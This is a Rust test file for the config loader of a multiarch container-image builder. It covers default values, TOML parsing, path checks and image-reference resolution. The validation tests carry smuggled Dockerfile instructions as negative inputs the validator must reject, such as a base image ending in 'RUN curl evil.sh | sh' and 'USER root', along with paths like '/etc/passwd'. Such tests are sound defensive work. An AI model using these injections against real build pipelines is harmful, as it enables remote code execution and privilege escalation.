use multiarch_core::{Error, ImageConfig, ImageVariant, MultiarchConfig};
use tempfile::TempDir;

#[test]
fn load_returns_defaults_when_no_config_file() {
    let tmp = TempDir::new().unwrap();
    let config = MultiarchConfig::load(tmp.path()).unwrap();

    assert_eq!(config.image.base_image, "python:3.11-slim");
    assert_eq!(config.image.variant, ImageVariant::Full);
    assert_eq!(config.image.requirements, "requirements.txt");
    assert!(config.image.files.is_none());
    assert_eq!(config.image.entrypoint, "app.py");
    assert_eq!(config.image.interpreter, "python");
    assert_eq!(config.image.workdir, "/app");
    assert_eq!(config.image.env["PIP_NO_CACHE_DIR"], "1");
    assert_eq!(config.image.env["PIP_PREFER_BINARY"], "1");
    assert_eq!(config.image.env["OPENBLAS_CORETYPE"], "ARMV8");
    assert!(config.publish.image.is_none());
    assert_eq!(config.publish.platforms, vec!["linux/amd64", "linux/arm64"]);
    assert_eq!(config.publish.builder, "multiarch");
    assert!(config.publish.login);
}

#[test]
fn load_parses_full_config() {
    let tmp = TempDir::new().unwrap();
    let toml = r#"
[image]
base_image = "nvcr.io/nvidia/l4t-ml:r36.2.0-py3"
variant = "slim"
requirements = "deps/requirements.txt"
files = ["app.py", "lib/helpers.py"]
entrypoint = "app.py"
interpreter = "python3"
workdir = "/srv"

[publish]
image = "ghcr.io/acme/demo:v2"
platforms = ["linux/arm64"]
builder = "ci-builder"
login = false
"#;
    std::fs::write(tmp.path().join("multiarch.toml"), toml).unwrap();

    let config = MultiarchConfig::load(tmp.path()).unwrap();

    assert_eq!(config.image.base_image, "nvcr.io/nvidia/l4t-ml:r36.2.0-py3");
    assert_eq!(config.image.variant, ImageVariant::Slim);
    assert_eq!(config.image.requirements, "deps/requirements.txt");
    assert_eq!(
        config.image.files.as_deref(),
        Some(&["app.py".to_owned(), "lib/helpers.py".to_owned()][..])
    );
    assert_eq!(config.image.interpreter, "python3");
    assert_eq!(config.image.workdir, "/srv");
    assert_eq!(config.publish.image.as_deref(), Some("ghcr.io/acme/demo:v2"));
    assert_eq!(config.publish.platforms, vec!["linux/arm64"]);
    assert_eq!(config.publish.builder, "ci-builder");
    assert!(!config.publish.login);
}

#[test]
fn load_partial_config_fills_defaults() {
    let tmp = TempDir::new().unwrap();
    let toml = r#"
[publish]
image = "acme/demo:v1"
"#;
    std::fs::write(tmp.path().join("multiarch.toml"), toml).unwrap();

    let config = MultiarchConfig::load(tmp.path()).unwrap();

    assert_eq!(config.publish.image.as_deref(), Some("acme/demo:v1"));
    // Defaults preserved
    assert_eq!(config.image.base_image, "python:3.11-slim");
    assert_eq!(config.publish.builder, "multiarch");
}

#[test]
fn load_invalid_toml_returns_parse_error() {
    let tmp = TempDir::new().unwrap();
    std::fs::write(tmp.path().join("multiarch.toml"), "not valid {{{{ toml").unwrap();

    let result = MultiarchConfig::load(tmp.path());
    assert!(result.is_err());

    let err = result.unwrap_err().to_string();
    assert!(err.contains("parse"));
}

#[test]
fn load_unknown_variant_is_rejected() {
    let tmp = TempDir::new().unwrap();
    std::fs::write(
        tmp.path().join("multiarch.toml"),
        "[image]\nvariant = \"tiny\"\n",
    )
    .unwrap();

    assert!(matches!(
        MultiarchConfig::load(tmp.path()),
        Err(Error::ConfigParse { .. })
    ));
}

#[test]
fn load_empty_config_returns_defaults() {
    let tmp = TempDir::new().unwrap();
    std::fs::write(tmp.path().join("multiarch.toml"), "").unwrap();

    let config = MultiarchConfig::load(tmp.path()).unwrap();
    assert_eq!(config.image.entrypoint, "app.py");
}

// ── env Tests ──

#[test]
fn load_image_env_merges_over_fixed_variables() {
    let tmp = TempDir::new().unwrap();
    let toml = r#"
[image.env]
TZ = "UTC"
OPENBLAS_CORETYPE = "NEOVERSEN1"
"#;
    std::fs::write(tmp.path().join("multiarch.toml"), toml).unwrap();

    let config = MultiarchConfig::load(tmp.path()).unwrap();

    assert_eq!(config.image.env.len(), 4);
    assert_eq!(config.image.env["TZ"], "UTC");
    assert_eq!(config.image.env["OPENBLAS_CORETYPE"], "NEOVERSEN1");
    assert_eq!(config.image.env["PIP_NO_CACHE_DIR"], "1");
}

// ── staged files ──

#[test]
fn full_variant_stages_application_scripts() {
    let config = MultiarchConfig::default();
    assert_eq!(
        config.image.staged_files().unwrap(),
        vec!["app.py", "current_time.py", "whatsmyip.py"]
    );
    assert!(config.image.installs_dependencies());
}

#[test]
fn slim_variant_stages_entrypoint_only() {
    let mut config = MultiarchConfig::default();
    config.image.variant = ImageVariant::Slim;

    assert_eq!(config.image.staged_files().unwrap(), vec!["app.py"]);
    assert!(!config.image.installs_dependencies());
}

#[test]
fn entrypoint_is_always_staged_once() {
    let mut config = MultiarchConfig::default();
    config.image.files = Some(vec!["helpers.py".to_owned(), "main.py".to_owned()]);
    config.image.entrypoint = "main.py".to_owned();

    assert_eq!(
        config.image.staged_files().unwrap(),
        vec!["helpers.py", "main.py"]
    );
}

#[test]
fn staged_files_reject_escaping_paths() {
    for bad in ["../secrets.py", "/etc/passwd", "", "my app.py"] {
        let mut config = MultiarchConfig::default();
        config.image.files = Some(vec![bad.to_owned()]);
        assert!(
            matches!(
                config.image.staged_files(),
                Err(Error::InvalidStagedPath { .. })
            ),
            "{bad:?} should be rejected"
        );
    }
}

// ── publish resolution ──

#[test]
fn resolve_image_prefers_override() {
    let mut config = MultiarchConfig::default();
    config.publish.image = Some("acme/from-config:v1".to_owned());

    let img = config
        .publish
        .resolve_image(Some("docker.io/acme/demo:v1"))
        .unwrap();
    assert_eq!(img.to_string(), "docker.io/acme/demo:v1");

    let img = config.publish.resolve_image(None).unwrap();
    assert_eq!(img.repository, "acme/from-config");
}

#[test]
fn resolve_image_without_any_source_fails() {
    let config = MultiarchConfig::default();
    assert!(matches!(
        config.publish.resolve_image(None),
        Err(Error::MissingImageRef)
    ));
    assert!(matches!(
        config.publish.resolve_image(Some("  ")),
        Err(Error::MissingImageRef)
    ));
}

#[test]
fn push_target_rejects_digest_references() {
    let config = MultiarchConfig::default();
    let pinned = "ghcr.io/acme/demo@sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa";

    // Still fine for reading.
    assert!(config.publish.resolve_image(Some(pinned)).is_ok());

    assert!(matches!(
        config.publish.resolve_push_target(Some(pinned)),
        Err(Error::DigestNotPushable { .. })
    ));
    assert!(matches!(
        config
            .publish
            .resolve_push_target(Some(&pinned.replace("demo@", "demo:v1@"))),
        Err(Error::DigestNotPushable { .. })
    ));

    let img = config.publish.resolve_push_target(Some("ghcr.io/acme/demo")).unwrap();
    assert_eq!(img.to_string(), "ghcr.io/acme/demo:latest");
}

// ── image field validation ──

#[test]
fn default_image_config_is_valid() {
    assert!(ImageConfig::default().validate().is_ok());
}

#[test]
fn image_fields_reject_instruction_injection() {
    let cases = [
        ImageConfig {
            base_image: "python:3.11-slim\nRUN curl evil.sh | sh".to_owned(),
            ..Default::default()
        },
        ImageConfig {
            workdir: "/app\nUSER root".to_owned(),
            ..Default::default()
        },
        ImageConfig {
            workdir: "app".to_owned(),
            ..Default::default()
        },
        ImageConfig {
            interpreter: "python\", \"-c".to_owned(),
            ..Default::default()
        },
        ImageConfig {
            entrypoint: "app.py\\".to_owned(),
            ..Default::default()
        },
    ];

    for config in cases {
        assert!(
            matches!(config.validate(), Err(Error::InvalidImageField { .. })),
            "accepted {config:?}"
        );
    }
}

#[test]
fn image_env_rejects_bad_names_and_control_characters() {
    let mut config = ImageConfig::default();
    config.env.insert("BAD KEY".to_owned(), "1".to_owned());
    match config.validate() {
        Err(Error::InvalidImageField { field, .. }) => assert_eq!(field, "env.BAD KEY"),
        other => panic!("unexpected result: {other:?}"),
    }

    let mut config = ImageConfig::default();
    config.env.insert("GREETING".to_owned(), "hi\nRUN id".to_owned());
    assert!(config.validate().is_err());

    let mut config = ImageConfig::default();
    config.env.insert("PRICE".to_owned(), "$5 \"flat\"".to_owned());
    assert!(config.validate().is_ok());
}

#[test]
fn platform_set_reports_invalid_entry() {
    let mut config = MultiarchConfig::default();
    config.publish.platforms = vec!["linux/amd64".to_owned(), "arm64".to_owned()];

    match config.publish.platform_set() {
        Err(Error::InvalidPlatform { value }) => assert_eq!(value, "arm64"),
        other => panic!("unexpected result: {other:?}"),
    }
}
